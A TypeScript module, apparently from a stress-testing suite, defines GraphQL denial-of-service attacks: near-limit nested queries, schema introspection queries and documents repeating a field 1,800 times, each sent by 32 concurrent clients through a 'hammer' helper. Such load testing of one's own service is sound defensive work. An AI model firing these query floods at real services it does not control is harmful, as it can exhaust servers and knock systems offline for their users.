/** Attacks with queries: as costly as one may be, and documents that take long to look at. */
import type { Attack } from './attack.ts';
import { type Call, hammer, json } from './hammering.ts';

const values = 'ID Name Description Status Notes Result CustomFields CreatedOn';
/** Each just below the limit, and never the same twice. */
const costly = [
  (n: number) =>
    `{ tasks(take: 900, skip: ${n % 50}) { total nodes { ${values} workOrder { Name tasks(take: 4) { total nodes { Name } } } } } }`,
  (n: number) =>
    `{ tasks(take: 1000, skip: ${n % 50}, search: "aa", orderby: "Notes Desc") { total nodes { ${values} } } }`,
  (n: number) =>
    `{ a${n}: __schema { types { name fields { name args { name type { name } } type { name } } inputFields { name } } } }`,
];
const wide = (n: number) => `{ a${n}: me { ${'shardID '.repeat(1_800)} } }`;

export const graphqlAttacks: readonly Attack[] = [
  {
    name: 'costly-queries',
    who: 'account',
    does: '32 clients ask the costliest queries there may be: long pages of long records with what lies behind them, counted',
    short: true,
    start: (context) =>
      hammer(context, {
        clients: 32,
        call: costlyQuery,
      }),
  },
  {
    name: 'long-documents',
    who: 'account',
    does: '32 clients send ever new documents of thousands of words',
    start: (context) =>
      hammer(context, {
        clients: 32,
        call: (n) => ({ method: 'POST', path: '/graphql', headers: json, body: JSON.stringify({ query: wide(n) }) }),
      }),
  },
];

/** The `n`th of them. */
export function costlyQuery(n: number): Call {
  return {
    method: 'POST',
    path: '/graphql',
    headers: json,
    body: JSON.stringify({ query: costly[n % costly.length]!(n) }),
  };
}
